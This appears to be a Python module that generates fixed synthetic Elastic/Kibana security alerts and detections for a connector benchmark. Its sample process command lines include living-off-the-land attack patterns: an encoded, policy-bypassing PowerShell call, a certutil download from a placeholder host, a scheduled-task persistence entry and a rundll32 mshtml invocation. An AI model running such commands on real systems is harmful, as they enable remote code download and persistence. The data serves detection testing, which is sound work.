"""Made-up alerts and detections for the connector benchmark, the same ones every time.

An alert is what an endpoint's rule leaves behind: 2 to 3 KB, nested ECS with flat `kibana.alert.*`
names among it, of which a task reads a few fields.
"""

from __future__ import annotations

import hashlib
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

from sftsec_core.api.domain import Detection, detection_uid

if TYPE_CHECKING:
    from collections.abc import Iterator

# What a task reads and carries along; all else of an alert stays on the platform.
FIELDS = (
    "process.command_line",
    "process.parent.command_line",
    "user.name",
    "host.name",
    "kibana.alert.rule.name",
)
_START = datetime(2026, 1, 1, tzinfo=UTC)
_MODEL = hashlib.sha256(b"bench").hexdigest()
_RULES = (
    "Suspicious PowerShell Execution",
    "Ingress Transfer via Living-off-the-Land Binary",
    "Persistence via Scheduled Task",
    "Reverse Shell over Netcat",
)
_PROGRAMS = (
    ("powershell.exe", "-NoProfile -ExecutionPolicy Bypass -EncodedCommand"),
    ("certutil.exe", "-urlcache -split -f https://cdn-files.example/"),
    ("schtasks.exe", "/create /sc minute /mo 15 /tn Updater /tr C:\\ProgramData\\"),
    ("rundll32.exe", "javascript:\\..\\mshtml,RunHTMLApplication "),
)


def alerts(rows: int) -> Iterator[tuple[str, dict[str, Any]]]:
    """Make alerts, each with the name that it is kept under (64 hex digits).

    Args:
        rows: how many; one a second from 2026 on.
    """
    for number in range(rows):
        name = _hex(number)
        yield name, _alert(number, name)


def detections(rows: int, place: str) -> Iterator[Detection]:
    """Make detections about the alerts, one each.

    Args:
        rows: how many.
        place: where the alerts are: the part of an incident's uid before the slash.
    """
    for number in range(rows):
        name = _hex(number)
        fields = _read_fields(number, name)
        incident = f"{place}/{name}"
        share = 0.5 + number % 500 / 1000
        yield Detection(
            uid=detection_uid(_MODEL, incident, name),
            incident_uid=incident,
            task="bench",
            model_digest=_MODEL,
            label="malicious",
            probability=share,
            threshold=0.5,
            top_classes=(("malicious", share), ("benign", 1 - share)),
            at=_START + timedelta(seconds=number),
            fields=fields,
        )


def _hex(number: int) -> str:
    return hashlib.sha256(number.to_bytes(8, "big")).hexdigest()


def _read_fields(number: int, name: str) -> dict[str, str]:
    program, arguments = _PROGRAMS[number % len(_PROGRAMS)]
    values = (
        f"C:\\Windows\\System32\\{program} {arguments}{name}",
        f"C:\\Windows\\explorer.exe /factory,{{{name[:32]}}}",
        f"user{number % 1013}",
        f"host-{number % 997}",
        _RULES[number % len(_RULES)],
    )
    return dict(zip(FIELDS, values, strict=True))


def _alert(number: int, name: str) -> dict[str, Any]:
    at = (_START + timedelta(seconds=number)).isoformat()
    command, parent, user, host, rule = _read_fields(number, name).values()
    return {
        "@timestamp": at,
        "message": f"{rule} on {host} by {user}",
        "ecs": {"version": "8.11.0"},
        "agent": {"id": name[:36], "type": "endpoint", "version": "8.19.2"},
        "data_stream": {"type": "logs", "dataset": "endpoint.alerts", "namespace": "default"},
        "event": _event(number, name, at),
        "host": _host(number, host),
        "user": {"id": f"S-1-5-21-{number % 1013}", "name": user, "domain": "CORP"},
        "process": {
            **_process(number, name, command),
            "hash": {"md5": name[:32], "sha1": name[:40], "sha256": name},
            "code_signature": {"subject_name": "Microsoft Windows", "trusted": True},
            "parent": _process(number + 1, name[::-1], parent),
        },
        **_rule_fields(number, name, at, rule),
    }


def _event(number: int, name: str, at: str) -> dict[str, Any]:
    return {
        "kind": "signal",
        "module": "endpoint",
        "dataset": "endpoint.alerts",
        "category": ["process", "intrusion_detection"],
        "type": ["start"],
        "action": "start",
        "id": name[:26],
        "sequence": number,
        "created": at,
        "ingested": at,
        "severity": 47,
        "risk_score": 47.0,
        "outcome": "success",
    }


def _host(number: int, name: str) -> dict[str, Any]:
    system = {"name": "Windows", "family": "windows", "version": "10.0.19045.3570"}
    address = f"10.{number % 250}.{number % 199}.7"
    return {
        "id": f"{number % 997:032x}",
        "name": name,
        "hostname": name,
        "architecture": "x86_64",
        "ip": [address, "fe80::1ff:fe23:4567:890a", "127.0.0.1"],
        "mac": ["00-50-56-AB-CD-EF"],
        "os": {**system, "full": "Windows 10 Pro 22H2 (10.0.19045.3570)", "platform": "windows"},
    }


def _process(number: int, name: str, command: str) -> dict[str, Any]:
    return {
        "pid": 1000 + number % 30_000,
        "entity_id": name[:40],
        "name": command.partition(" ")[0].rpartition("\\")[2],
        "executable": command.partition(" ")[0],
        "command_line": command,
        "args": command.split(),
        "args_count": len(command.split()),
    }


def _rule_fields(number: int, name: str, at: str, rule: str) -> dict[str, Any]:
    return {
        "kibana.alert.uuid": name,
        "kibana.alert.start": at,
        "kibana.alert.status": "active",
        "kibana.alert.workflow_status": "open",
        "kibana.alert.depth": 1,
        "kibana.alert.reason": f"process event created medium alert {rule}.",
        "kibana.alert.severity": "medium",
        "kibana.alert.risk_score": 47,
        "kibana.alert.original_time": at,
        "kibana.alert.original_event.action": "start",
        "kibana.alert.rule.name": rule,
        "kibana.alert.rule.uuid": f"{number % 4:08x}-5f1b-4c3d-9d7e-2b1a0c9f8e7d",
        "kibana.alert.rule.category": "Custom Query Rule",
        "kibana.alert.rule.consumer": "siem",
        "kibana.alert.rule.type": "query",
        "kibana.alert.rule.tags": ["Domain: Endpoint", "OS: Windows", "Tactic: Execution"],
    }
